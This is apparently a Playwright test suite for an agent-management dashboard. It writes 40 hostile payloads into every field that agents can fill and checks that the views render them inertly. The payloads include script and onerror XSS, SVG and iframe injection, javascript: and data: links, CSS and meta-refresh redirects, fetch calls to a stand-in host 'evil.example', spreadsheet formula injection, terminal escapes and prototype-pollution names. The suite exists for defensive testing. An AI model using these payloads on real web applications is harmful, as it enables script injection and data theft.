"""Hostile texts of agents: 40 payloads in every field that they may fill, in front of a real browser.

Each is shown as text: it opens no dialog, runs nothing, asks no other host, and breaks no layout.
"""

import os
import random
from dataclasses import replace
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from hubbub.core.actions import task_actions
from hubbub.core.agents import agents, scopes
from hubbub.core.fleet import approvals, nodes
from hubbub.core.mail import messages
from hubbub.core.mail.messages import Thread
from hubbub.core.people import projects, runs
from hubbub.core.presence import presences
from hubbub.core.work import artifacts, completion, reviews, tasks
from hubbub.model.agents.scopes import Scope
from hubbub.model.fleet.calls import NodeInfo, Principal, Question, call_digest
from hubbub.model.lifecycle import Event
from hubbub.model.records import Condition, Profile, ReviewVerdict, Task
from hubbub.model.visible_text import visible
from hubbub.store.tx import Tx
from tests.dashboard.browser import DESKTOP, PHONE, WHOLE, Visit, inside
from tests.dashboard.looks import BROKEN
from tests.dashboard.scene import NEVER
from tests.serve.served_hub import Hub
from tests.support.self_named import by_a_tool_set
from tests.support.waiting import patience

MOST_OF_A_CARD = 190  # characters of a title, of which the hub keeps 200 at the side
EVIL = "https://evil.example"
PWN = f"document.body.dataset.pwned=1,alert(1),fetch('{EVIL}')"
PAYLOADS = {
    "script": f"<script>{PWN}</script>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "script that closes another": f"</script><script>{PWN}</script>",
    "json that closes a script": f'{{"a": "</script><img src=x onerror={PWN}>"}}',
    "image": f"<img src={EVIL}/p.png>",
    "image with a handler": f'<img src=x onerror="{PWN}">',
    "svg": f'<svg onload="{PWN}"><use href="{EVIL}/x.svg#a"/></svg>',
    "svg animation": f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s></svg>',
    "math and mutation": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></table></math>',
    "comment and mutation": f'<!--><img src=x onerror="{PWN}">-->',
    "frame": f'<iframe srcdoc="<script>{PWN}</script>" src="{EVIL}"></iframe>',
    "details": f'<details open ontoggle="{PWN}">x</details>',
    "autofocus": f'<input autofocus onfocus="{PWN}">',
    "style": f'<style>body{{display:none;background:url({EVIL}/c)}}</style>',
    "style attribute": f'<b style="position:fixed;inset:0;background:url({EVIL}/s)">over all</b>',
    "base": f'<base href="{EVIL}/"><link rel=stylesheet href="{EVIL}/l.css">',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}">',
    "form": f'<form action="{EVIL}"><button formaction="javascript:{PWN}">Approve</button></form>',
    "attribute that closes": f'"><img src=x onerror="{PWN}"><a title="',
    "quote that closes": f"' onmouseover='{PWN}' x='",
    "entities": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
    "markdown link": f"[press me](javascript:{PWN})",
    "markdown link by entities": f"[x](&#106;avascript:{PWN}) [y](java&Tab;script:{PWN})",
    "markdown link to data": f"[x](data:text/html,<script>{PWN}</script>) [y](vbscript:x)",
    "markdown link to nobody's host": f"[x](//evil.example/y) [y](\\\\evil.example) <{EVIL}/auto>",
    "markdown image": f"![p]({EVIL}/p.png) ![q][r]\n\n[r]: {EVIL}/q.png",
    "markdown image in a link": f"[![p]({EVIL}/i.png)](javascript:{PWN})",
    "markdown that never ends": "[" * 400 + "*" * 400 + "`" * 399,
    "markdown table": "|a|b|\n|-|-|\n|" + "c" * 3000 + "|<img src=x onerror=alert(1)>|",
    "headings": "# one\n" + "#" * 6 + " six\n\n> " * 40 + "deep",
    "right to left": "\u202egnp.exe\u202c \u2067abc\u2066 ע‎ברית والعربية",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad" * 30 + "seen",
    "marks without end": "Z" + "\u0337\u0338\u0349\u0316\u0319" * 200 + "algo",
    "long": "word " * 10_000,
    "long without a blank": "x" * 50_000,
    "wide signs": "\ufdfd" * 400 + "🏴‍☠️👩‍👩‍👧‍👦" * 100,
    "terminal": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x07\x08\x7f",
    "formula": "=HYPERLINK(\"https://evil.example\",\"x\")\n+1\n-1\n@SUM(1)",
    "templates": "{{7*7}} ${7*7} <%= 7 %> #{7} {count} {name} %s $& $1",
    "prototype": "__proto__",
}  # fmt: skip
NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "0",
    "...",
    "%2e%2e",
    "a/b?c#d&e=%",
)
# Of texts that chance makes: how many there are, from which seed, and how many are looked at together.
TEXTS, SEED, A_BATCH = int(os.environ.get("TEXTS", "10")), os.environ.get("SEED", "1"), 40
ODD = (*"<>\"'`&=/\\\t\n\r\u2028\u202e\ufeff", "]]>", "-->", "&#0;", "{{", "%3C")
AROUND = (
    ("", ""), ("<b>", "</b>"), ("<!--", "-->"), ("<![CDATA[", "]]>"), ("<a href='", "'>"), ('<p title="', '">'),
    ("`", "`"), ("```\n", "\n```"), ("[x](", ")"), ("![", "](y)"), ("> - 1. ", ""), ("|", "|\n|-|\n"),
    ("<textarea>", "</textarea>"), ("<svg><style>", "</style></svg>"),
)  # fmt: skip

# Whatever is on the page and cannot be ours.
STRANGE = """(evil) => {
  const strange = [];
  for (const each of document.querySelectorAll("*")) {
    for (const { name, value } of each.attributes) {
      if (name.startsWith("on")) strange.push(`${each.tagName} has ${name}`);
      if (name === "href" && !each.closest(".markdown") && value.includes(evil)) strange.push(`a link to ${value}`);
    }
    if (each.matches("a[href]") && !/^(https?|mailto):$/.test(each.protocol)) strange.push(`a link to ${each.href}`);
  }
  const never = "iframe, object, embed, base, math, form[action], [formaction], meta[http-equiv], style, img, "
    + "script:not([src]):not(#boot)";
  for (const each of document.querySelectorAll(never)) strange.push(each.outerHTML.slice(0, 80));
  if (document.body.dataset.pwned || {}.polluted) strange.push("a payload ran");
  return strange;
}"""


# Opens a tab of the task.
OPEN = """(name) =>
  [...document.querySelectorAll(".side [role=tab]")].find((tab) => tab.textContent.startsWith(name)).click()"""

NOTHING = "nothing-has-this"  # what a view is filtered by that only stands behind what is looked at
VIEWS = (
    "needs", "board", "fleet", "messages", "files", "graph", "activity", "machines", "cost", "audit", "settings",
)  # fmt: skip


@pytest.fixture(scope="module")
def written(hub: Hub) -> list[Task]:
    """A task for each payload; in all that agents may write about it stands the payload."""
    return [
        hub.do(lambda tx, number=number, text=text: _write(tx, hub, number, text))
        for number, text in enumerate(PAYLOADS.values())
    ]


def _write(tx: Tx, hub: Hub, number: int, text: str) -> Task:
    """Put the payload wherever an agent may write something."""
    project_id = hub.project.id
    name = _name(number, text)
    by_a_tool_set(tx, project_id, name)
    _come(tx, hub, name, text, number)
    tasks.send(tx, project_id, sender=name, to=None, text=text, context=text, title=text)
    task = tasks.send(
        tx, project_id, sender=name, to=name, text=f"{text}\n\n{text}", context=text, title=text, reason=text
    )
    begun = task_actions.start(tx, task_actions.accept(tx, task, name), name)
    task_actions.progress(tx, begun, name, output=text, progress=50)
    tasks.note(tx, begun, actor=name, detail={"reason": text})
    artifact = artifacts.post(
        tx,
        runs.current(tx, project_id),
        by=name,
        name=text[:200],
        kind=text[:200],
        content=text,
        task=str(task.id),
    )
    review = reviews.request(tx, artifact, by=name, reviewer=name)
    reviews.submit(tx, review, ReviewVerdict.CHANGES_REQUESTED, by=name, comments=text)
    for to in ("hub", name):
        messages.send(tx, project_id, sender=name, to=to, body=text, thread=Thread(name=text[:200]))
        messages.send(tx, project_id, sender=name, to=to, body=text, in_reply_to=task.id)
    messages.broadcast(tx, project_id, sender=name, recipients=[name], body=text)
    current = tasks.find(tx, [project_id], str(task.id))
    return _leave(tx, current, name, text, number)


def _name(number: int, text: str) -> str:
    """Return the valid name of an agent that is closest to the payload."""
    if number < len(NAMES):
        return NAMES[number]
    letters = "".join(each for each in text if each.isprintable()).strip()
    return f"{letters[:150].strip()} {number}"


def _come(tx: Tx, hub: Hub, name: str, text: str, number: int) -> None:
    """Add an agent and its machine, with descriptions of their own choice."""
    line = visible(text).strip()[:190].strip()
    machine = f"{line} {number}".replace("@", "(at)")  # which none may hold
    about = NodeInfo(name=machine, machine_id=line, platform=line, version=line, sandbox=line)
    nodes.report(tx, hub.project, about, labels=[line], ttl=NEVER)
    profile = Profile(
        doing=text, output=text, server=text, hostname=about.name, runtime=text, workdir=text, version=text,
        terminal=text, thread=text, config_path=text, channels=text, model=text,
    )  # fmt: skip
    condition = list(Condition)[number % (len(Condition) - 1)]
    presences.report(
        tx,
        hub.project.id,
        name,
        instance=f"{text[:150]} {number}",
        condition=condition,
        profile=profile,
        ttl=NEVER,
    )
    presence = agents.presence(tx, hub.project.id, name)
    assert presence is not None
    path = "".join(each for each in text[:200] if each.isprintable() and each not in "*?[]{}\\").strip(" ./")
    scopes.declare(tx, hub.project, presence, Scope.of(None, [f"src/{path or number}", "shared"]))
    _ask(tx, hub, name, text)


def _ask(tx: Tx, hub: Hub, name: str, text: str) -> None:
    who = Principal(project=hub.project.slug, name=name)
    call: dict[str, Any] = {"command": text, text[:100]: text}
    question = Question(
        who=who, node=text[:200], tool=text[:200], arguments=call, folder=text[:200], shown=text, reason=text,
        digest=call_digest(who, "run_command", call, "/srv", "node"),
    )  # fmt: skip
    approvals.put(tx, hub.project, question, NEVER / 10)


def _leave(tx: Tx, task: Task, name: str, text: str, number: int) -> Task:
    """A third waits, a third has failed, a third is done."""
    if number % 3 == 0:
        return tasks.step(tx, task, Event.BLOCK, actor=name, detail={"reason": text})
    event = Event.FAIL if number % 3 == 1 else Event.COMPLETE
    return completion.end(tx, task, event, by=name, text=text, result=text, files=[text[:200]])


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["laptop", "phone"])
def test_no_view_is_harmed(visit: Visit, written: list[Task], size: tuple[int, int]) -> None:
    """Every view shows all of it: nothing runs, nothing is asked of another host, and nothing sticks out."""
    assert len(written) == len(PAYLOADS) == 40
    page = visit("/", size=size)
    faults = {}
    for view in VIEWS:
        inside(page, "shell/router.js", "m.go(x)", view)
        if found := _faults(page):
            faults[view] = found
    assert faults == {}


def test_no_task_is_harmed(visit: Visit, written: list[Task]) -> None:
    """Beside the board every one of these tasks shows its title as it was written, and all that was said of it."""
    page = visit(f"/board?q={NOTHING}")
    faults = {}
    for payload, task in zip(PAYLOADS, written, strict=True):
        inside(page, "shell/router.js", "m.set({ task: x })", str(task.number))
        head = page.locator(".inspector-head")
        expect(head).to_contain_text(f"T-{task.number}")
        shown = head.locator("h2").text_content() or ""
        found = [] if _same(shown, task.title) else [f"{shown[:60]!r} for {task.title[:60]!r}"]
        for tab in ("Overview", "Artifacts", "Raw"):
            page.evaluate(OPEN, tab)
            if tab == "Artifacts":
                page.locator(".side .artifact").first.click()
            found += _faults(page)
        if found:
            faults[payload] = found
    assert faults == {}


def test_no_agent_is_harmed(visit: Visit, written: list[Task]) -> None:
    """Beside the fleet every one of these agents is called what it is called, however that may be understood."""
    page = visit(f"/fleet?q={NOTHING}")
    faults = {}
    for number, text in enumerate(PAYLOADS.values()):
        name = _name(number, text)
        inside(page, "shell/router.js", "m.set({ agent: x })", name)
        expect(page.locator(".side")).to_contain_text(name[:40].strip())
        if found := _faults(page):
            faults[name[:40]] = found
    assert faults == {}


def _faults(page: Page) -> list[str]:
    looked = f"async ([late, evil]) => {{ await ({WHOLE})(late); return [...({STRANGE})(evil), ...({BROKEN})()]; }}"
    found: list[str] = page.evaluate(looked, [1000 * patience(), EVIL])
    return found


def _same(shown: str, title: str) -> bool:
    """Tell whether that is the title, or its beginning; `code` stands there without its marks."""
    plain = shown.removesuffix("…").replace("`", "")
    return title.replace("`", "").startswith(plain) and len(plain) >= min(
        len(title.replace("`", "")), MOST_OF_A_CARD
    )


def made(chance: random.Random) -> str:
    """A text of pieces of hostile ones, torn, put into one another, and with odd signs in between."""
    pieces = []
    for _ in range(chance.randint(1, 4)):
        piece = chance.choice([*PAYLOADS.values()])[: chance.choice((12, 60, 400))]
        for _ in range(chance.randrange(4)):
            place = chance.randrange(len(piece) + 1)
            piece = piece[:place] + chance.choice(ODD) + piece[place:]
        pieces.append(chance.choice((piece, piece.swapcase(), piece.upper())))
    before, behind = chance.choice(AROUND)
    return f"{before}{chance.choice(('', ' ', chr(10))).join(pieces)}{behind} x"


@pytest.mark.system
@pytest.mark.parametrize("batch", range(0, TEXTS, A_BATCH))
def test_no_page_is_harmed_by_texts_of_chance(visit: Visit, hub: Hub, batch: int) -> None:
    """Texts that chance makes of hostile ones harm no view, and nothing beside it."""
    chance = random.Random(f"{SEED} {batch}")
    slug, texts = f"batch-{batch}", [made(chance) for _ in range(min(A_BATCH, TEXTS - batch))]
    place = replace(hub, project=hub.do(lambda tx: projects.create(tx, slug), hub.owner))
    tasks_of = [
        hub.do(lambda tx, number=number, text=text: _write(tx, place, len(NAMES) + number, text))
        for number, text in enumerate(texts)
    ]
    page = visit(f"/?project={slug}", size=chance.choice((DESKTOP, PHONE)))
    faults = {}
    for view in VIEWS:
        inside(page, "shell/router.js", "m.go(x)", view)
        if found := _faults(page):
            faults[view] = found
    page = visit(f"/board?project={slug}&q={NOTHING}")
    for task, text in zip(tasks_of, texts, strict=True):
        inside(page, "shell/router.js", "m.set({ task: x })", str(task.number))
        expect(page.locator(".inspector-head")).to_contain_text(f"T-{task.number}")
        if found := _faults(page):
            faults[text] = found
    assert faults == {}
